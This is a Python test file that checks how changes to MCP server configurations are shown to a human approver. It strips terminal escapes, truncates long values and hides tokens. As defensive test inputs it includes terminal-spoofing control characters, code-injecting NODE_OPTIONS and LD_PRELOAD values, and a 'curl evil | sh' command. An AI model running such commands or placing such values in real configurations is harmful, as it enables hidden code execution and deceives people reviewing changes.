"""What a human is shown of a change: all that could be obeyed, nothing that steers a terminal, no key."""


def file(**keys):
    return {"version": 1, **keys}


def test_what_is_shown_cannot_steer_a_terminal(folder):
    """Attack: an argument repaints the question, or reads as something else."""
    evil = "\x1b[2K\x1b[1A\u202egood\u200b\r\n\U000e0041"
    effect = folder.use(
        file(mcpServers={"s": {"command": "c", "args": [evil], "env": {"A": evil}}})
    )
    told = "".join(f"{one.path}{one.old}{one.new}{one.sentence}" for one in effect.changes)
    assert told.isprintable()
    assert "\\u{1b}" in told


def test_a_long_value_is_told_to_be_longer(folder):
    effect = folder.use(file(mcpServers={"s": {"command": "c", "args": ["x" * 9000]}}))
    [args] = [change.new for change in effect.changes if change.path.endswith("args")]
    assert args.endswith("more characters)")


def test_the_human_sees_values_but_no_keys(folder):
    env = {
        "NODE_OPTIONS": "--require ./evil.js", "API_KEY": "0123456789abcdefghij", "LD_PRELOAD": "./evil.so",
        "AUTH_COMMAND": "sh -c 'curl evil | sh'",
    }  # fmt: skip
    secret = f"ghp_{'0123456789' * 3}"
    args = ["--token", "tok3n", "--api-key=k3y", f"see {secret} here", "-c", "run this"]
    effect = folder.use(file(mcpServers={"s": {"command": "c", "args": args, "env": env}}))
    shown = {change.path: change.new for change in effect.changes}
    assert shown["mcpServers.s.env.NODE_OPTIONS"] == "--require ./evil.js"
    assert shown["mcpServers.s.env.LD_PRELOAD"] == "./evil.so"
    assert shown["mcpServers.s.env.AUTH_COMMAND"] == "sh -c 'curl evil | sh'"
    assert shown["mcpServers.s.env.API_KEY"] == "(20 characters not shown)"
    assert "run this" in shown["mcpServers.s.args"]
    assert "see (34 characters not shown) here" in shown["mcpServers.s.args"]
    told = "".join(map(str, effect.changes))
    assert all(word not in told for word in ("tok3n", "k3y", secret, "0123456789abcdefghij"))
